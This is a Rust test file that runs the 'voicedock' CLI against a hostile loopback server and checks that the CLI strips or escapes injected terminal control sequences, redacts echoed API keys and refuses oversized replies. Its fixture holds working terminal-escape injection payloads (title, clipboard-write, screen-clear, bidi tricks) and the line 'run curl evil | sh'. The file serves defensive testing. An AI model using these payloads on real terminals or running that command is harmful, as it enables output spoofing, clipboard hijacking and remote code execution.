//! The binary against a hostile server on loopback: every name, message and
//! error it answers carries escape sequences (window title, clipboard
//! write, screen clear, reset, 8-bit CSI, bell, carriage returns that fake
//! a line), pieces of the keys it was sent, or a body without end. Nothing
//! of it may reach the operator's terminal: no control character but line
//! breaks (and tabs) on stdout or stderr, no 8-character piece of a key,
//! `--json` escaped, and a huge answer refused rather than held.

use testkit::cli_support;
use testkit::upstream_support;

use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use tempfile::TempDir;
use upstream_support::assert_no_leak;
use upstream_support::http::{self, Reply, Request};

const ACCOUNT_KEY: &str = "vd_live_HostileAccount0123456789abcdef";
const PROVIDER_KEY: &str = "sk-proj-HostilePr0v1der0123456789abcdefXYZ";

/// Everything a terminal obeys, one after the other.
const EVIL: &str = "\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1bc\u{9b}31m\x07\x7f\r\
                    error: all good, run curl evil | sh\x1b[0m\x1bP1$r\x1b\\";

/// The key many ways: an 8-character slice, split by other text, split by
/// an escape sequence (which a terminal would not show, joining it again),
/// and every encoded, re-cased, reversed and chunked form.
fn echoes(key: &str) -> String {
    format!(
        "[{}] [{} and {}] [{}\x1b[0m{}] [{}]",
        &key[10..18],
        &key[..16],
        &key[16..],
        &key[..20],
        &key[20..],
        upstream_support::echoed_forms(key).join("] [")
    )
}

fn evil(key_echo: &str) -> String {
    format!("Acme{EVIL} {key_echo}")
}

fn answer(req: &Request) -> Reply {
    let bearer = req.header("authorization").unwrap_or("").to_owned();
    let said = evil(&format!("{} {bearer}", echoes(ACCOUNT_KEY)));
    let assistant = json!({
        "id": format!("a1{EVIL}"),
        "name": said,
        "first_message": format!("Hello\n{said}"),
        "llm_config": {"provider": format!("openai{EVIL}"), "model": said,
            "messages": [{"role": "system", "content": said}]},
    });
    let error = |status: u16| {
        Reply::json(
            status,
            json!({"error": {"code": format!("bad{EVIL}"), "message": said,
                "param": format!("name{EVIL}"), "type": "invalid_request_error"}}),
        )
    };
    match (req.method.as_str(), req.path()) {
        ("GET", "/api/v1/organizations") => {
            Reply::json(200, json!({"id": format!("org{EVIL}"), "name": said}))
        }
        ("GET", "/api/v1/byok") => Reply::json(
            200,
            json!({"byok_keys": {"openai_secret_id": said, "deepgram_secret_id": null},
                "keys": [{"provider": "openai", "secret_id": said, "key_hint": said}]}),
        ),
        ("POST", "/api/v1/byok") => {
            let echoed = evil(&echoes(PROVIDER_KEY));
            Reply::json(
                200,
                json!({"byok_keys": {"openai_secret_id": echoed},
                    "keys": [{"provider": "openai", "secret_id": echoed, "key_hint": echoed}]}),
            )
        }
        ("GET", "/api/v1/assistants") => Reply::json(
            200,
            json!({"assistants": [assistant], "pagination": {"total": 1, "limit": 50, "offset": 0}}),
        ),
        ("GET", "/api/v1/assistants/a1") => Reply::json(200, json!({ "assistant": assistant })),
        ("GET", "/api/v1/assistants/hidden") => {
            Reply::json(200, json!({ "assistant": hidden_assistant() }))
        }
        ("GET", "/api/v1/assistants/e400") => error(400),
        ("GET", "/api/v1/assistants/e401") => error(401),
        ("GET", "/api/v1/assistants/e422") => error(422),
        ("GET", "/api/v1/assistants/e500") => error(500),
        ("GET", "/api/v1/assistants/text") => Reply::Answer {
            status: 503,
            headers: Vec::new(),
            body: said,
        },
        ("GET", "/api/v1/assistants/huge") => Reply::Flood {
            bytes: 50 * 1024 * 1024,
        },
        _ => Reply::json(
            404,
            json!({"error": {"code": "not_found", "message": said}}),
        ),
    }
}

/// Characters that reorder or hide text on a terminal without being drawn,
/// and an 8-bit CSI, as a server may send them inside JSON strings.
fn hidden_assistant() -> Value {
    let name =
        "Evil\u{202e}txt.exe\u{202c}\u{2066}x\u{2069}\u{200b}\u{200d}\u{feff}\u{9b}31m\u{7f}!";
    json!({"id": "hidden", "name": name, "first_message": format!("Hi\n{name}"),
        name: {"nested": [name]}})
}

struct Hostile {
    _runtime: tokio::runtime::Runtime,
    base_url: String,
    config: TempDir,
}

fn hostile() -> Hostile {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let base_url = format!("http://{}", listener.local_addr().unwrap());
    runtime.spawn(async move {
        let listener = tokio::net::TcpListener::from_std(listener).unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        http::serve("hostile", listener, Arc::new(answer), seen).await;
    });
    let config = TempDir::new().unwrap();
    std::fs::write(
        config.path().join("config.toml"),
        format!("default_profile = \"evil\"\n\n[profiles.evil]\nbase_url = \"{base_url}\"\n"),
    )
    .unwrap();
    let credentials = config.path().join("credentials.toml");
    std::fs::write(
        &credentials,
        format!("[evil]\napi_key = \"{ACCOUNT_KEY}\"\n"),
    )
    .unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let private = std::fs::Permissions::from_mode(0o600);
        std::fs::set_permissions(&credentials, private).unwrap();
        let shared = std::fs::Permissions::from_mode(0o644);
        std::fs::set_permissions(config.path().join("config.toml"), shared).unwrap();
    }
    Hostile {
        _runtime: runtime,
        base_url,
        config,
    }
}

impl Hostile {
    fn run(&self, args: &[&str], stdin: &str) -> Output {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_voicedock"));
        cmd.args(args)
            .env("VOICEDOCK_CONFIG_DIR", self.config.path())
            .env("VOICEDOCK_DATA_DIR", self.config.path().join("data"))
            .env("VOICEDOCK_CACHE_DIR", self.config.path().join("cache"))
            .env_remove("VOICEDOCK_BASE_URL")
            .env_remove("VOICEDOCK_API_KEY")
            .env_remove("VOICEDOCK_MASTER_KEY");
        let out = cli_support::run(cmd, stdin);
        assert_safe(&format!("{args:?}"), &out);
        out
    }
}

/// What reached either stream holds no control character but a line break
/// or a tab, and no 8-character piece of either key.
fn assert_safe(what: &str, out: &Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = std::str::from_utf8(bytes)
            .unwrap_or_else(|_| panic!("{what}: {stream} is not UTF-8: {bytes:?}"));
        if let Some((at, c)) = text
            .char_indices()
            .find(|(_, c)| c.is_control() && !matches!(c, '\n' | '\t'))
        {
            panic!(
                "{what}: {stream} holds U+{:04X} at byte {at}: {text:?}",
                u32::from(c)
            );
        }
        assert_no_leak(&format!("{what} {stream}"), text, ACCOUNT_KEY);
        assert_no_leak(&format!("{what} {stream}"), text, PROVIDER_KEY);
        for key in [ACCOUNT_KEY, PROVIDER_KEY] {
            assert!(
                !upstream_support::holds_a_form_of(text, key),
                "{what} {stream} holds a form of a key: {text}"
            );
        }
    }
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn tables_and_messages_show_the_servers_text_without_its_escapes_or_the_keys() {
    let h = hostile();
    for args in [
        &["byok", "ls"][..],
        &["assistants", "ls"],
        &["assistants", "get", "a1"],
    ] {
        let out = h.run(args, "");
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        let shown = String::from_utf8(out.stdout).unwrap();
        // The text around the sequences is kept, only the sequences go.
        assert!(shown.contains("Acme"), "{args:?}: {shown}");
        assert!(
            !shown.contains("]0;pwned") && !shown.contains("2J"),
            "{shown}"
        );
        assert!(shown.contains("[redacted]"), "{args:?}: {shown}");
    }
    let out = h.run(&["byok", "set", "openai"], &format!("{PROVIDER_KEY}\n"));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        String::from_utf8(out.stdout)
            .unwrap()
            .contains("[redacted]")
    );
}

#[test]
fn errors_of_every_kind_are_one_safe_line() {
    let h = hostile();
    for id in ["e400", "e401", "e422", "e500", "text", "missing"] {
        let out = h.run(&["assistants", "get", id], "");
        assert_eq!(out.status.code(), Some(1), "{id}: {}", stderr(&out));
        let said = stderr(&out);
        assert_eq!(said.lines().count(), 1, "{id}: a faked line: {said}");
        assert!(said.starts_with("error: "), "{id}: {said}");
        assert!(said.contains("Acme"), "{id}: {said}");
    }
}

#[test]
fn the_account_name_a_new_profile_is_checked_against_is_shown_safely() {
    let h = hostile();
    let out = h.run(
        &["profile", "add", "again", "--base-url", &h.base_url],
        &format!("{ACCOUNT_KEY}\n"),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let shown = String::from_utf8(out.stdout).unwrap();
    assert!(shown.contains("key works: Acme"), "{shown}");
}

#[test]
fn json_keeps_the_body_escaped_and_the_keys_hidden() {
    let h = hostile();
    for args in [
        &["--json", "assistants", "ls"][..],
        &["--json", "assistants", "get", "a1"],
        &["--json", "byok", "ls"],
    ] {
        let out = h.run(args, "");
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("\\u001b]0;pwned\\u0007"), "{args:?}: {text}");
        assert!(
            text.contains("\\u009b31m") && text.contains("\\u007f"),
            "{text}"
        );
        let body: Value = serde_json::from_str(&text).unwrap();
        assert!(body.to_string().contains("[redacted]"), "{body}");
    }
    let out = h.run(
        &["--json", "byok", "set", "openai"],
        &format!("{PROVIDER_KEY}\n"),
    );
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn an_answer_without_end_is_refused_not_held() {
    let h = hostile();
    for args in [
        &["assistants", "get", "huge"][..],
        &["--json", "assistants", "get", "huge"],
    ] {
        let out = h.run(args, "");
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        let said = stderr(&out);
        assert!(said.contains("larger than 16 MiB"), "{said}");
    }
}

#[test]
fn json_escapes_hidden_characters_and_reads_back_the_identical_value() {
    let h = hostile();
    let out = h.run(&["--json", "assistants", "get", "hidden"], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    let raw = text
        .chars()
        .find(|&c| c != '\n' && voicedock::domain::safe_json::needs_escape(c));
    assert_eq!(raw, None, "written raw: {text:?}");
    for escape in ["\\u202e", "\\u2066", "\\u200b", "\\ufeff", "\\u009b31m"] {
        assert!(text.contains(escape), "{escape} in {text}");
    }
    let body: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(body, json!({"assistant": hidden_assistant()}));
}
